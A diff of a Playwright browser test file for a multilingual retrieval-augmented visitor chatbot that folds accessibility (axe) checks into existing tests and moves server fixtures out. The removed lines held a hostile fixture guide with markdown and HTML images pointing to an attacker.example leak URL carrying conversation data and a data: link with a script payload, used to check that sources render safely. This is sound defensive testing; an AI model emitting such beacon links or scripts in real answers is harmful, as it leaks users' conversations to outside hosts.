@@ -4,14 +4,14 @@ A Japanese visitor on a phone and a French visitor on a desktop ask over the bun
 local embeddings, the offline model) and get cited answers in their language with clean sources;
 an operator opens the console and the trace inspector. Every request the browser makes is
 recorded: none may leave 127.0.0.1. Screenshots go to ``$E2E_SCREENSHOTS`` (default: a temporary
-folder); look at them after a layout change.
+folder); look at them after a layout change. The app and its index are in conftest.py: the
+feedback test (test_browser_feedback.py) runs against the same server.
 """
 
 from __future__ import annotations
 
 import os
 import re
-import sys
 from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
@@ -21,14 +21,9 @@ from urllib.parse import urlsplit
 import pytest
 
 from app_ui.labels import Labels
-from rag.config import DEFAULT_CORPUS, RagSettings
-from rag.indexer import index_corpus
-from tests.conftest import PROVIDER_VARIABLES, REPO_ROOT
-from tests.local_server import free_port, running_server
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
-CHROMIUM = Path("/usr/bin/chromium")
 CHROMIUM_FLAGS = [
     "--headless",
     "--no-sandbox",
@@ -41,84 +36,6 @@ CHROMIUM_FLAGS = [
     "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1",
 ]
 ANSWER_TIMEOUT_MS = 60_000
-LEAK = "https://attacker.example/leak.png"
-# A guide written to leak: an image by reference, an inline image, a data: link and raw HTML.
-HOSTILE_GUIDE = f"""# Le pavillon des essais
-
-Le pavillon des essais ouvre de 10 h à 17 h ![logo][img] et se visite librement.
-![suivi]({LEAK}?d=conversation) [cliquez](data:text/html,<script>alert(1)</script>) <img src="{LEAK}">
-
-[img]: {LEAK}
-"""
-
-
-@pytest.fixture
-def chromium() -> Path:
-    """Debian's chromium; CI must have it (``.ci/run`` installs it), elsewhere the test is skipped."""
-    if not CHROMIUM.exists():
-        message = f"{CHROMIUM} is absent: install it with `apt-get install -y chromium`."
-        if os.environ.get("CI"):
-            pytest.fail(message + " CI installs it in .ci/run.")
-        pytest.skip(message)
-    return CHROMIUM
-
-
-def _server_command(port: int) -> list[str]:
-    options = {
-        "server.headless": "true",
-        "server.address": "127.0.0.1",  # the console opens without password to a local browser only
-        "server.port": port,
-        "server.fileWatcherType": "none",
-        "browser.gatherUsageStats": "false",
-        "client.toolbarMode": "minimal",
-    }
-    app = str(REPO_ROOT / "streamlit_app.py")
-    return [
-        sys.executable,
-        "-m",
-        "streamlit",
-        "run",
-        app,
-        *(f"--{key}={value}" for key, value in options.items()),
-    ]
-
-
-@pytest.fixture(scope="module")
-def app_url(tmp_path_factory: pytest.TempPathFactory, local_embedder: Any) -> Iterator[str]:
-    """The app serving an index of ``data/corpus`` and a hostile guide, offline model; one server
-    for the module's tests (each opens its own browser, so sessions are fresh)."""
-    tmp_path = tmp_path_factory.mktemp("app")
-    index_dir = tmp_path / "index"
-    hostile = tmp_path / "hostile"
-    hostile.mkdir()
-    (hostile / "pavillon.md").write_text(HOSTILE_GUIDE, encoding="utf-8")
-    settings = RagSettings(_env_file=None, index_dir=index_dir)
-    index_corpus([DEFAULT_CORPUS, hostile], settings, embedder=local_embedder)
-    env = {name: value for name, value in os.environ.items() if name not in PROVIDER_VARIABLES}
-    env.update(
-        PYTHONPATH=str(REPO_ROOT),
-        RAG_INDEX_DIR=str(index_dir),
-        AGENT_PROVIDER="offline",
-        AGENT_OFFLINE_WORD_SECONDS="0.005",  # streamed as a provider's answer: the states between are seen
-        TOOLS_OFFLINE="true",  # climate normals and distance estimates: no weather or routing service
-        AGENT_CHECKPOINT_PATH=str(tmp_path / "state" / "threads.sqlite"),
-        HF_HUB_OFFLINE="1",
-        TRANSFORMERS_OFFLINE="1",
-        ANONYMIZED_TELEMETRY="False",
-        NO_PROXY="127.0.0.1,localhost",
-        APP_LOCAL_CONSOLE="true",  # with no operator password, the console opens to this browser only
-    )
-    port = free_port()
-    url = f"http://127.0.0.1:{port}"
-    with (
-        (tmp_path / "streamlit.log").open("wb") as log,
-        running_server(
-            _server_command(port), f"{url}/_stcore/health", timeout=60, cwd=tmp_path, env=env, output=log
-        ),
-    ):
-        yield url
-
-
 FILE_PATH = re.compile(r"\b[\w-]+/[\w./ -]+\.(?:md|jsonl|txt)\b")
 PHONE = {"width": 390, "height": 844}
 DESKTOP = {"width": 1280, "height": 900}
@@ -178,8 +95,8 @@ def _screens(tmp_path: Path) -> Path:
     return shots
 
 
-def test_a_japanese_visitor_on_a_phone_sees_only_japanese_and_clean_sources(
-    chromium: Path, app_url: str, tmp_path: Path
+def test_a_japanese_visitor_on_a_phone_sees_only_japanese_and_clean_sources_and_the_page_passes_axe(
+    chromium: Path, axe: Path, app_url: str, tmp_path: Path
 ) -> None:
     from playwright.sync_api import expect
 
@@ -213,9 +130,21 @@ def test_a_japanese_visitor_on_a_phone_sees_only_japanese_and_clean_sources(
         assert page.evaluate("() => document.documentElement.scrollWidth") <= PHONE["width"], "overflow"
         assert not page.get_by_test_id("stSidebar").is_visible()
 
+        problems = _serious_violations(page, axe)  # the answer, its first source opened
+        lang = page.evaluate("() => document.documentElement.lang")
+        announced = page.locator("#visitor-live[role=status][aria-live=polite]").text_content()
+        skip = page.get_by_test_id("stSkipToContent").text_content()
+        send = page.get_by_test_id("stChatInputSubmitButton").get_attribute("aria-label")
+        names = [m.get_attribute("aria-label") for m in page.get_by_test_id("stChatMessageContent").all()]
+    assert not problems, "\n".join(problems)
+    assert lang == "ja"
+    assert announced == japanese["answer_ready"]
+    assert (skip, send) == (japanese["skip_link"], japanese["send_message"])
+    assert names == [japanese["user_message"], japanese["assistant_message"]]
 
-def test_a_french_visitor_on_a_desktop_then_a_hostile_passage(
-    chromium: Path, app_url: str, tmp_path: Path
+
+def test_a_french_visitor_on_a_desktop_passes_axe_then_a_hostile_passage(
+    chromium: Path, axe: Path, app_url: str, tmp_path: Path
 ) -> None:
     from playwright.sync_api import expect
 
@@ -231,6 +160,8 @@ def test_a_french_visitor_on_a_desktop_then_a_hostile_passage(
             answer, shots / "desktop-fr-2-answer.png", shots / "desktop-fr-3-source-opened.png"
         )
         assert not FILE_PATH.search(_visible_text(page))
+        problems = _serious_violations(page, axe)  # the answer, its first source opened
+        lang = page.evaluate("() => document.documentElement.lang")
 
         hostile = _ask(page, "Quand ouvre le pavillon des essais ?", 2, french["sources"])
         hostile.get_by_test_id("stExpander").first.click()
@@ -239,6 +170,8 @@ def test_a_french_visitor_on_a_desktop_then_a_hostile_passage(
         expect(hostile.locator("a[href^='data:'], a[href^='javascript:']")).to_have_count(0)
         _scroll_to_top_of(hostile)
         page.screenshot(path=shots / "desktop-fr-4-hostile-passage.png")
+    assert not problems, "\n".join(problems)
+    assert lang == "fr"
 
 
 # Records the text of the newest assistant bubble at every change of the page, while it streams.
@@ -327,7 +260,9 @@ def _answer(page: Any, question: str, turn: int) -> str:
     raise AssertionError(f"answer {turn} did not finish: {before!r}")
 
 
-def test_an_operator_opens_the_console_and_the_trace(chromium: Path, app_url: str, tmp_path: Path) -> None:
+def test_an_operator_opens_the_console_and_the_trace_and_it_passes_axe(
+    chromium: Path, axe: Path, app_url: str, tmp_path: Path
+) -> None:
     from playwright.sync_api import expect
 
     shots = _screens(tmp_path)
@@ -359,6 +294,8 @@ def test_an_operator_opens_the_console_and_the_trace(chromium: Path, app_url: st
         expect(drawing.locator("svg")).to_be_visible(timeout=20_000)
         drawing.scroll_into_view_if_needed()
         page.screenshot(path=shots / "console-5-trace-graph.png")
+        problems = _serious_violations(page, axe)  # the steps and the trace inspector's graph opened
+    assert not problems, "\n".join(problems)
 
 
 @contextmanager
@@ -440,19 +377,7 @@ def test_two_questions_100_ms_apart_are_both_answered_and_a_reload_keeps_them(
     assert english["follow_ups"] in after[3]  # and its suggested questions
 
 
-AXE = REPO_ROOT / "tests" / "e2e" / "node_modules" / "axe-core" / "axe.min.js"
 AXE_RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
-
-
-@pytest.fixture
-def axe() -> Path:
-    """axe-core from the npm registry, pinned in tests/e2e/package.json (``make setup-dev``)."""
-    if not AXE.exists():
-        message = f"{AXE} is absent: run `npm ci --prefix tests/e2e` (make setup-dev)."
-        if os.environ.get("CI"):
-            pytest.fail(message)
-        pytest.skip(message)
-    return AXE
 
 
 def _serious_violations(page: Any, axe: Path) -> list[str]:
@@ -467,57 +392,6 @@ def _serious_violations(page: Any, axe: Path) -> list[str]:
         for v in violations
         if v["impact"] in {"serious", "critical"}
     ]
-
-
-def test_the_visitor_page_in_japanese_on_a_phone_passes_axe(chromium: Path, axe: Path, app_url: str) -> None:
-    japanese = Labels("ja")
-    phone = {"viewport": PHONE, "locale": "ja-JP", "device_scale_factor": 2, "is_mobile": True}
-    with _browser_page(chromium, **phone) as page:
-        page.goto(app_url)
-        _ask(page, "宮殿の開館時間を教えてください。", 1, japanese["sources"]).get_by_test_id(
-            "stExpander"
-        ).first.click()
-        page.wait_for_timeout(500)
-        problems = _serious_violations(page, axe)
-        lang = page.evaluate("() => document.documentElement.lang")
-        announced = page.locator("#visitor-live[role=status][aria-live=polite]").text_content()
-        skip = page.get_by_test_id("stSkipToContent").text_content()
-        send = page.get_by_test_id("stChatInputSubmitButton").get_attribute("aria-label")
-        names = [m.get_attribute("aria-label") for m in page.get_by_test_id("stChatMessageContent").all()]
-    assert not problems, "\n".join(problems)
-    assert lang == "ja"
-    assert announced == japanese["answer_ready"]
-    assert (skip, send) == (japanese["skip_link"], japanese["send_message"])
-    assert names == [japanese["user_message"], japanese["assistant_message"]]
-
-
-def test_the_visitor_page_in_french_on_a_desktop_passes_axe(chromium: Path, axe: Path, app_url: str) -> None:
-    french = Labels("fr")
-    with _browser_page(chromium, viewport=DESKTOP, locale="fr-FR") as page:
-        page.goto(app_url)
-        _ask(page, "Quels sont les horaires d'ouverture du château ?", 1, french["sources"]).get_by_test_id(
-            "stExpander"
-        ).first.click()
-        page.wait_for_timeout(500)
-        problems = _serious_violations(page, axe)
-        lang = page.evaluate("() => document.documentElement.lang")
-    assert not problems, "\n".join(problems)
-    assert lang == "fr"
-
-
-def test_the_console_passes_axe(chromium: Path, axe: Path, app_url: str) -> None:
-    from playwright.sync_api import expect
-
-    with _browser_page(chromium, viewport=DESKTOP, locale="en-GB") as page:
-        page.goto(f"{app_url}/console")
-        expect(page.get_by_text("Offline model: extractive answers")).to_be_visible(timeout=60_000)
-        answer = _ask(page, "How much is a ticket for the Palace?", 1)
-        answer.get_by_text("Trace inspector").click()
-        inspector = answer.get_by_test_id("stExpander").last
-        inspector.get_by_role("tab", name="Graph").click()
-        page.wait_for_timeout(1000)
-        problems = _serious_violations(page, axe)
-    assert not problems, "\n".join(problems)
 
 
 ZOOMED = {"width": 640, "height": 450}  # a 1280 x 900 desktop window at 200 % zoom, in CSS pixels
